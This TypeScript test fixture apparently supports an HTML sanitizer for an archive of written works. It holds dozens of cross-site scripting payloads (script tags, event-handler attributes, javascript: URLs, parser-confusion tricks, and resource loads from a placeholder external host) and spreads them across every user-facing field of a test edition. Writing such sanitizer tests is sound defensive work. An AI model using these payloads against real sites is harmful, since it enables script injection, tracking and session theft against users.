import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { sharedPath } from '../src/testing/shared.ts';

/** HTML that tries to run, to ask someone else for something, or to take the page over; and the words it shows. */
export interface Payload {
  readonly html: string;
  /** Words that must still be read where it is shown; '' where it has none. */
  readonly words: string;
}

const own = (html: string, words = ''): Payload => ({ html, words });

/** Ours: each of a kind of its own, and each does something in a browser that is not protected from it. */
export const ownPayloads: readonly Payload[] = [
  own('<script>alert(1)</script>'),
  own('<SCRIPT SRC=http://elsewhere.example/x.js></SCRIPT>'),
  own('<p>heron one</p><script type=module>alert(1)</script>', 'heron one'),
  own('<svg><script>alert(1)</script></svg>'),
  own('<svg><script href="data:text/javascript,alert(1)"></script></svg>'),
  own('<img src=nowhere onerror=alert(1)>'),
  own('<img src="nowhere"onerror="alert(1)">'),
  own('<img/src=nowhere/onerror=alert(1)>'),
  own('<img src=http://elsewhere.example/pixel.gif>'),
  own('<img srcset="http://elsewhere.example/a.gif 1x">'),
  own('<picture><source srcset=http://elsewhere.example/b.gif><img src=nowhere></picture>'),
  own('<input type=image src=http://elsewhere.example/c.gif>'),
  own('<svg onload=alert(1)></svg>'),
  own('<svg/onload=alert(1)>heron two', 'heron two'),
  own('<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  own('<svg><image href=http://elsewhere.example/d.png /></svg>'),
  own('<svg><use href="http://elsewhere.example/e.svg#x"/></svg><a href="javascript:alert(1)">x</a>'),
  own('<svg><a xlink:href="javascript:alert(1)"><text y=20>heron three</text></a></svg>'),
  own(
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><img src=1 onerror=alert(1)>',
  ),
  own('<math><mi//xlink:href="data:x,<script>alert(1)</script>"><img src=1 onerror=alert(1)>'),
  own('<body onload=alert(1)>heron four', 'heron four'),
  own('<body onpageshow=alert(1)>'),
  own('<iframe src="javascript:alert(1)"></iframe>'),
  own('<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'),
  own('<iframe src=http://elsewhere.example/></iframe>'),
  own('<object data="http://elsewhere.example/f.html"></object>'),
  own('<embed src="http://elsewhere.example/g.html">'),
  own('<video src=http://elsewhere.example/h.mp4 onerror=alert(1)></video>'),
  own('<video poster=http://elsewhere.example/i.png></video>'),
  own('<video><source onerror=alert(1) src=nowhere></video>'),
  own('<audio src=nowhere onerror=alert(1)>'),
  own('<link rel=stylesheet href=http://elsewhere.example/j.css>'),
  own('<link rel=preload as=image href=http://elsewhere.example/k.png>'),
  own('<style>@import "http://elsewhere.example/l.css";</style>'),
  own('<style>body{background:url(http://elsewhere.example/m.png)}</style>heron five', 'heron five'),
  own('<div style="background:url(http://elsewhere.example/n.png)">heron six</div>', 'heron six'),
  own('<p style="background-image:\\75rl(http://elsewhere.example/o.png)">heron seven</p>', 'heron seven'),
  own('<table background=http://elsewhere.example/p.png><tr><td>heron eight</table>', 'heron eight'),
  own('<ul style="list-style-image:url(http://elsewhere.example/q.png)"><li>heron nine</ul>', 'heron nine'),
  own('<meta http-equiv=refresh content="0;url=http://elsewhere.example/r">'),
  own('<a href="javascript:alert(1)">heron ten</a>', 'heron ten'),
  own('<a href=" &#14; javascript:alert(1)">heron eleven</a>', 'heron eleven'),
  own('<a href="java&#10;script:alert(1)">heron twelve</a>', 'heron twelve'),
  own('<a href="JaVaScRiPt:alert(1)" target=_blank>heron thirteen</a>', 'heron thirteen'),
  own('<a href="data:text/html,<script>alert(1)</script>">heron fourteen</a>', 'heron fourteen'),
  own('<a href="vbscript:msgbox(1)">heron fifteen</a>', 'heron fifteen'),
  own('<a href=x onclick=alert(1)>heron sixteen</a>', 'heron sixteen'),
  own('<p onmouseover=alert(1)>heron seventeen</p>', 'heron seventeen'),
  own('<input autofocus onfocus=alert(1)>'),
  own('<select autofocus onfocus=alert(1)><option>x</select>'),
  own('<details open ontoggle=alert(1)><summary>heron eighteen</summary></details>', 'heron eighteen'),
  own('<form action="http://elsewhere.example/s"><button>heron nineteen</button></form>', 'heron nineteen'),
  own('<button formaction="javascript:alert(1)">heron twenty</button>', 'heron twenty'),
  own('<isindex type=image src=1 onerror=alert(1)><img src=1 onerror=alert(1)>'),
  own(
    '<p id=main class=masthead>heron twentyone</p><base href=http://elsewhere.example/>',
    'heron twentyone',
  ),
  own('<!--><img src=1 onerror=alert(1)>-->'),
  own('<![CDATA[><img src=1 onerror=alert(1)>]]>'),
  own('<noscript><p title="</noscript><img src=1 onerror=alert(1)>"></noscript>'),
  own('</textarea></title></style></script><img src=1 onerror=alert(1)>'),
  own('"><img src=1 onerror=alert(1)>'),
  own("'-alert(1)-'<img src=1 onerror=alert(1)>"),
  own('<b><i><p>heron twentytwo</b></i><img src=1 onerror=alert(1)></p>', 'heron twentytwo'),
  own('<x><img src=1 onerror=alert(1)></x>heron twentythree', 'heron twentythree'),
  own('<marquee onstart=alert(1)>heron twentyfour</marquee>', 'heron twentyfour'),
];

/** What may be written, and must still be there as it was written. */
export const allowed: readonly Payload[] = [
  own(
    '<p><em>plain</em> and <strong>strong</strong>, <a href="http://heron.example/a">a link</a></p>',
    'a link',
  ),
  own('<blockquote><p>said <b>before</b></p></blockquote>', 'said before'),
  own('<ul><li>one of <i>two</i></li></ul>', 'one of two'),
];

/** Payloads others collected (`corpora/html-payloads.jsonl` beside the checkout), by where they come from; undefined where there are none. */
export function readCollected(): ReadonlyMap<string, readonly Payload[]> | undefined {
  const path = sharedPath('corpora/html-payloads.jsonl');
  if (path === undefined) return undefined;
  const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
  const all = lines.map((line): { source: string; payload: string } => JSON.parse(line));
  const bySource = Map.groupBy(all, ({ source }) => source);
  return new Map([...bySource].map(([source, some]) => [source, some.map(({ payload }) => own(payload))]));
}

/** A PNG of one pixel. */
const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const pixelHash = createHash('sha256').update(Buffer.from(pixel, 'base64')).digest('hex');

/**
 * An Edition that has the payloads in every place that shows strangers' words: as HTML where HTML may stand, as text
 * where only text may. `everywhere` also makes a choice, a tag, a creator and an image of each.
 */
export function editionOf(title: string, payloads: readonly Payload[], everywhere: boolean): object {
  const lines = payloads.map(({ html }) => textOf(html));
  const named = everywhere ? lines.filter((line) => line !== '') : lines.slice(0, 3);
  const joined = payloads.map(({ html }) => `<div>${html}</div>`);
  const keys = payloads.map((_, i) => `p${i + 1}`);
  return {
    work: {
      title: `${title} ${named.join(' ').slice(0, 2_000)}`,
      creators: named.map((name) => ({ name, site: name })),
      fandoms: named,
      characters: named,
      freeforms: named,
      relationships: named,
      rating: 'General Audiences',
      warnings: ['No Archive Warnings Apply'],
      summary: `<p>kestrel summary</p>${joined.join('')}`,
      notes: `<p>kestrel notes</p>${joined.toReversed().join('')}`,
      endnotes: `<p>kestrel endnotes</p>${joined.join('')}`,
      disclaimer: `<p>kestrel disclaimer</p>${joined.join('')}`,
      series: { name: named[0] ?? null, part: 1, of: 2 },
      posted: { written: named[1] ?? null },
      asWritten: named.map((value) => ({ label: value, value })),
    },
    passages: [
      { key: 'start', title: named[2] ?? null, html: '<p>kestrel start</p>' },
      ...payloads.map(({ html }, i) => ({
        key: keys[i],
        title: lines[i] ?? null,
        html: `<p>[kestrel${i}]</p>${html}`,
      })),
      {
        key: 'pictures',
        title: 'Pictures',
        html: everywhere ? named.map(picture).join('') : '<p>kestrel none</p>',
      },
      { key: 'a', title: null, html: `<p>kestrel end</p>${joined.join('')}`, ending: true },
      {
        key: 'b',
        title: null,
        html: `<p>kestrel other end</p>${joined.toReversed().join('')}`,
        ending: true,
      },
    ],
    choices: everywhere ? keys.map((to, i) => ({ from: 'start', to, label: lines[i] || 'go' })) : [],
    variantSets: [
      {
        place: 'pictures',
        branches: [
          { siglum: 'A', label: named[0] ?? 'one', head: 'a' },
          { siglum: 'B', label: named[1] ?? 'other', head: 'b' },
        ],
      },
    ],
    comments: payloads.map(({ html }, i) => ({
      id: `c${i}`,
      parent: i === 0 ? null : 'c0',
      author: { kind: 'imported', name: lines[i] || 'heron', site: 'journal.example' },
      posted: { written: lines[i] || null },
      subject: lines[i] || null,
      html: `<p>[kestrel${i}]</p>${html}`,
      about:
        i === 0 ? { kind: 'words', key: 'start', quote: lines[i] || 'heron', start: 0 } : { kind: 'work' },
    })),
    resources: everywhere
      ? [{ path: 'pixel.png', mediaType: 'image/png', sha256: pixelHash, base64: pixel }]
      : [],
  };
}

/** A payload where only text may stand: as it is, in one line. */
export function textOf(html: string): string {
  return html.replace(/\s+/g, ' ').trim();
}

function picture(alt: string): string {
  return `<p><img src="resource:pixel.png" alt="${alt.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></p>`;
}
